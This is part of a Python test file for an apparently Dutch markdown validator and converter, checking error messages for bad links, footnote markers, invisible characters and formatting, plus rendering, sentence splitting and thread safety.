    ("Zie [x](//evil.be).", 8, f"de link naar '//evil.be' valt weg; {LINK_CURE}"),
    ("Zie [x](../over/).", 8, f"de link naar '../over/' valt weg; {LINK_CURE}"),
    ("Zie [x](http://a.be).", 8,
     "de link naar 'http://a.be' valt weg; schrijf https:// in plaats van http://"),
    ("Zie <http://a.be>.", 5,
     "de link naar 'http://a.be' valt weg; schrijf https:// in plaats van http://"),
    ("Zie [x](https:a.be).", 8,
     "de link naar 'https:a.be' valt weg; neem het hele adres over uit de adresbalk"),
    ("Zie [x](mailto:lier).", 8,
     "de link naar 'mailto:lier' valt weg; schrijf het zo: mailto:naam@voorbeeld.be"),
    ("Zie [x](praktijken:soep).", 8,
     "de link naar 'praktijken:soep' valt weg; bedoelde je 'praktijk:'?"),
    ("Zie [x](praktijk:Soep).", 8, "de link naar 'praktijk:Soep' valt weg; na de dubbele punt"
     " komt een id, zoals in praktijk:soep-op-de-stoep"),
    ("Er kwamen er zestig.[1]", 20,
     "'[1]' is geen bronteken; schrijf [^id], met het id van de bron"),
    ("Er kwamen er zestig.[1, 2]", 20,
     "'[1, 2]' is geen bronteken; schrijf [^id], met het id van de bron"),
    ("Er kwamen er zestig.[bron 1]", 20,
     "'[bron 1]' is geen bronteken; schrijf [^id], met het id van de bron"),
    ("Er kwamen er zestig.{1}", 20,
     "'{1}' is geen bronteken; schrijf [^id], met het id van de bron"),
    ("Er kwamen er zestig¹.", 19,
     "'¹' is geen bronteken; schrijf [^id], met het id van de bron"),
    ("Er kwamen er zestig.¹", 20,
     "'¹' is geen bronteken; schrijf [^id], met het id van de bron"),
    ("~~Weg~~ ermee.", 0, "doorhalen met '~~' werkt hier niet; haal het weg"),
    ("- [ ] doe dit", 2, "een vakje ('[ ]') werkt hier niet; haal het weg"),
    ("Dit is **vet.", 7,
     "de vette tekst bij '**' is niet af; zet ** vlak voor en vlak achter de woorden"),
    ("Dit is vet** dus.", 10,
     "de vette tekst bij '**' is niet af; zet ** vlak voor en vlak achter de woorden"),
    ("Soep &#x202e;peos", 5, "'&#x202e;' is een onzichtbaar teken; haal het weg"),
    ("Soep&#8203;pan", 4, "'&#8203;' is een onzichtbaar teken; haal het weg"),
    ("Caf&#xFFFD;", 3, "'&#xFFFD;' is een letter die verloren ging; haal het weg"),
    ("Zie [x](praktijk:soap).", 8, "'praktijk:soap' bestaat niet; verbeter het id"),
    ("Zestig[^gazette].", 6, "bron 'gazette' is onbekend; zet ze bij sources of verbeter het id"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "offset", "message"), BAD)
def test_a_fault_says_where_it_is_and_how_to_mend_it(text: str, offset: int, message: str) -> None:
    assert (found(text)[0].offset, found(text)[0].message) == (offset, message)


def test_an_unknown_id_is_named_for_a_suggestion() -> None:
    text = "[x](praktijk:soap) en [^gazette] en [y](//evil.be)"
    named = [(fault.scheme, fault.target) for fault in found(text)]
    assert named == [("praktijk", "soap"), ("bron", "gazette"), (None, None)]


def test_all_faults_come_at_once_in_reading_order() -> None:
    text = "<b>\n\n[x](http://a.be)[^weg]\n- kom\n\n[^weg] en [^weg]"
    assert [fault.offset for fault in found(text)] == [0, 9, 21, 28, 35, 45]


def test_a_message_quotes_only_the_start_and_nothing_that_steers_a_terminal() -> None:
    entity, message = sorted(messages(f"[x](&#8238;x:{'a' * 100})"))
    assert entity == "'&#8238;' is een onzichtbaar teken; haal het weg"
    assert message.startswith(f"de link naar 'x:{'a' * 58}…' valt weg")


def test_every_own_scheme_may_be_linked() -> None:
    for scheme in OWN_SCHEMES:
        html = render(f"[x]({scheme}:een-id)", Setting(link=lambda s, i: f"../{s}/{i}/"))
        assert html == f'<p><a href="../{scheme}/een-id/">x</a></p>'


@pytest.mark.parametrize(
    ("text", "first"),
    [
        ("Eén zin. Nog een.", "Eén zin."),
        ("**Vet** tot ca. 2017 en 1.000 mensen. Klaar.", "Vet tot ca. 2017 en 1.000 mensen."),
        ("Kom!pas Halle is een pas. Wie?", "Kom!pas Halle is een pas."),
        ("Wie doet mee? 't Hope.", "Wie doet mee?"),
        ("Zonder punt", "Zonder punt"),
    ],
)
def test_the_first_sentence_of_a_text(text: str, first: str) -> None:
    assert first_sentence(text) == first


def test_two_threads_that_convert_do_not_mix_their_texts() -> None:
    texts = [
        f"Vet **woord {n}**, *schuin*, [naar](https://a.be/{n}).\n\n- een\n- twee {n}"
        for n in range(150)
    ]
    expected = [converted(text) for text in texts]
    patience = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    try:
        with ThreadPoolExecutor(2) as pool:
            assert list(pool.map(converted, texts)) == expected
    finally:
        sys.setswitchinterval(patience)
